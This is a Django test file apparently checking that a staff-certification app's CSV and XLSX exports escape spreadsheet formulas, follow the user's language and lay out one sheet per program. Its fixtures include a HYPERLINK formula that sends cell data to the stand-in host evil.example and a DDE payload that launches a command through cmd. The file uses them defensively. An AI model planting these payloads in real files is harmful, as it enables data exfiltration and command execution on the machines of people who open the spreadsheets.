"""Exports never carry a live formula: text people typed (names, teams, sites, programs)
stays text when the file is opened in a spreadsheet (OWASP CSV injection). Every label of
both exports is in the user's language, and the XLSX opens with a sheet per program, its
header frozen and filtered, its columns as wide as their content and its dates as dates."""

import csv
import io
import re
import zipfile
from datetime import datetime
from urllib.parse import urljoin

import pytest
from bs4 import BeautifulSoup
from django.utils import timezone, translation
from openpyxl import load_workbook

from certification.models import Program, ProgramRequirement
from supervision.exports import csv_text
from tests.factories import StaffFactory, TeamFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1;"click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2", "'-2"),
        (DDE, "'" + DDE),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("林晓雯", "林晓雯"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_csv_values_a_spreadsheet_would_evaluate_get_an_apostrophe(value, written):
    assert csv_text(value) == written


@pytest.fixture
def poisoned(org, program):
    supervisor, *_ = org
    team = TeamFactory(site=supervisor.site, name="+前台组")
    supervisor.site.name = "-滨河花园"
    supervisor.site.save()
    program.name = "=认证"
    program.save()
    StaffFactory(name=HYPERLINK, employee_number="=E1", site=supervisor.site, team=team)
    StaffFactory(name=DDE, employee_number="#N/A", site=supervisor.site, team=team)
    return supervisor


def test_the_csv_export_writes_no_formula(client, poisoned):
    client.force_login(poisoned.user)
    data = b"".join(client.get("/supervision/export.csv").streaming_content)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    row = next(r for r in rows if "HYPERLINK" in r[1])
    assert row[:6] == ["'=E1", "'" + HYPERLINK, "'-滨河花园", "'+前台组", "前台", "'=认证"]
    assert next(r for r in rows if "SUM" in r[1])[1] == "'" + DDE
    starts = {cell[:1] for r in rows for cell in r}
    assert not starts & {"=", "+", "-", "@", "\t", "\r"}


def test_the_xlsx_export_writes_every_text_as_a_string_cell(client, poisoned):
    from openpyxl import load_workbook

    client.force_login(poisoned.user)
    data = b"".join(client.get("/supervision/export.xlsx").streaming_content)
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and 't="e"' not in sheet_xml  # no formula, no error cell
    sheet = load_workbook(io.BytesIO(data)).active
    row = next(r for r in sheet.iter_rows(min_row=2) if "HYPERLINK" in str(r[1].value))
    assert [c.value for c in row[:6]] == ["=E1", HYPERLINK, "-滨河花园", "+前台组", "前台", "=认证"]
    assert all(c.data_type == "s" for c in row[:6])
    error_row = next(r for r in sheet.iter_rows(min_row=2) if "SUM" in str(r[1].value))
    assert (error_row[0].value, error_row[0].data_type) == ("#N/A", "s")


CHINESE_HEADER = [
    "工号",
    "姓名",
    "项目",
    "班组",
    "岗位",
    "认证项目",
    "状态",
    "已满足要求",
    "证书编号",
    "颁发日期",
    "有效期至",
    "截止",
    "已逾期",
    "验证链接",
    "练习天数（近7天）",
    "最近练习",
]
ENGLISH_HEADER = [
    "Employee number",
    "Name",
    "Site",
    "Team",
    "Position",
    "Program",
    "Status",
    "Requirements met",
    "Serial number",
    "Issued",
    "Valid until",
    "Due",
    "Overdue",
    "Verification link",
    "Days practised (last 7 days)",
    "Last practised",
]
LABEL_COLUMNS = (4, 6, 12)  # position, status, overdue: labels, not what people typed
# The team fixture issues a certificate, whose follow-up runs once the transaction commits.
ISSUING = pytest.mark.django_db(transaction=True)


def soup(client, url) -> BeautifulSoup:
    response = client.get(url)
    assert response.status_code == 200
    return BeautifulSoup(response.content.decode(), "html.parser")


def read_csv(response) -> list[list[str]]:
    data = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(data)))


def read_xlsx(response):
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def labels(rows) -> list[str]:
    return rows[0] + [row[i] for row in rows[1:] for i in LABEL_COLUMNS if row[i]]


@ISSUING
def test_every_label_of_both_exports_is_chinese_for_a_chinese_user(client, team_supervisor):
    client.force_login(team_supervisor.user)
    rows = read_csv(client.get("/supervision/export.csv?sort=name"))
    assert rows[0] == CHINESE_HEADER
    by_name = {row[1]: row for row in rows[1:]}
    assert [by_name["林晓雯"][i] for i in LABEL_COLUMNS] == ["前台", "已认证", ""]
    assert [by_name["陈思琪"][i] for i in LABEL_COLUMNS] == ["前台", "未开始", "是"]
    assert by_name["王建国"][4] == "客服主管"
    assert not [text for text in labels(rows) if re.search("[A-Za-z]", text)]

    sheet = read_xlsx(client.get("/supervision/export.xlsx?sort=name")).active
    xlsx_rows = [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]
    assert xlsx_rows[0] == CHINESE_HEADER
    assert [row[:2] + [row[i] for i in LABEL_COLUMNS] for row in xlsx_rows[1:]] == [
        [row[0], row[1]] + [row[i] for i in LABEL_COLUMNS] for row in rows[1:]
    ]


@ISSUING
def test_labels_follow_the_language_the_user_chose_however_the_file_is_sent(
    client, team_supervisor
):
    client.force_login(team_supervisor.user)
    response = client.get("/supervision/export.csv")
    xlsx_response = client.get("/supervision/export.xlsx")
    # The server writes a streamed body after the view has returned; whatever language is
    # active on that thread then, the file is in the language of the request.
    with translation.override("en"):
        rows = read_csv(response)
        sheet = read_xlsx(xlsx_response).active
    assert rows[0] == CHINESE_HEADER and {row[4] for row in rows[1:]} == {"前台", "客服主管"}
    assert [c.value for c in sheet[1]] == CHINESE_HEADER

    client.cookies["django_language"] = "en"  # the language switcher's choice
    response = client.get("/supervision/export.csv")
    with translation.override("zh-hans"):
        rows = read_csv(response)
    assert rows[0] == ENGLISH_HEADER
    by_name = {row[1]: row for row in rows[1:]}
    assert [by_name["林晓雯"][i] for i in LABEL_COLUMNS] == ["Front desk", "Certified", ""]
    assert by_name["陈思琪"][12] == "yes"
    assert not [text for text in labels(rows) if re.search("[\u4e00-\u9fff]", text)]


@ISSUING
def test_an_xlsx_of_every_program_has_a_sheet_per_program(client, team_supervisor, program):
    night = Program.objects.create(
        name="夜班前台/应急处置[第二期]：投诉升级、安全事件与停水停电处理认证", code="night"
    )
    ProgramRequirement.objects.create(program=night, kind="observation")
    Program.objects.create(name="已停用的认证", code="old", active=False)
    client.force_login(team_supervisor.user)
    page = soup(client, f"/supervision/?team={team_supervisor.team.pk}")
    every = next(
        a for a in page.select(".exports a") if a.get_text(strip=True) == "全部认证项目 XLSX"
    )

    workbook = read_xlsx(client.get(urljoin("/supervision/", every["href"])))
    # Named after the programs, as Excel allows: 31 characters at most, no "/[]".
    assert set(workbook.sheetnames) == {
        "夜班前台_应急处置_第二期_：投诉升级、安全事件与停水停电处理",
        "前台客服上岗认证",
    }
    night_sheet = workbook["夜班前台_应急处置_第二期_：投诉升级、安全事件与停水停电处理"]
    front_desk = workbook["前台客服上岗认证"]
    # The same filters on each sheet (the team), each sheet its own program's rows.
    for sheet, name in ((night_sheet, night.name), (front_desk, program.name)):
        rows = list(sheet.iter_rows(values_only=True))
        assert rows[0] == tuple(CHINESE_HEADER)
        assert sorted(row[1] for row in rows[1:]) == sorted(["林晓雯", "陈思琪", "王建国"])
        assert {row[5] for row in rows[1:]} == {name}
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == f"A1:P{len(rows)}"
    certified = next(r for r in front_desk.iter_rows(min_row=2) if r[1].value == "林晓雯")
    issued, expires = certified[9], certified[10]
    assert issued.is_date and issued.number_format == "yyyy-mm-dd"
    assert issued.value == datetime.combine(timezone.localdate(), datetime.min.time())
    assert expires.is_date
    # Wide enough for what they hold: a date, a name, the verification link.
    width = {c: front_desk.column_dimensions[c].width for c in "ABJN"}
    assert width["J"] >= 10 and width["B"] >= 2 * len("姓名")
    assert width["N"] >= len(certified[13].value) > width["A"]


@ISSUING
def test_the_link_to_every_program_shows_only_when_there_are_several(client, team_supervisor):
    client.force_login(team_supervisor.user)
    page = soup(client, "/supervision/")
    assert [a.get_text(strip=True) for a in page.select(".exports a")] == ["下载 XLSX", "下载 CSV"]


@ISSUING
def test_one_more_person_costs_the_export_of_every_program_no_query(
    client, team_supervisor, program
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    Program.objects.create(name="投诉处理认证", code="complaints")
    client.force_login(team_supervisor.user)

    def queries():
        with CaptureQueriesContext(connection) as captured:
            response = client.get("/supervision/export.xlsx?programs=all")
            b"".join(response.streaming_content)
        return len(captured)

    queries()
    before = queries()
    for _ in range(5):
        StaffFactory(site=team_supervisor.site, team=team_supervisor.team)
    assert queries() == before
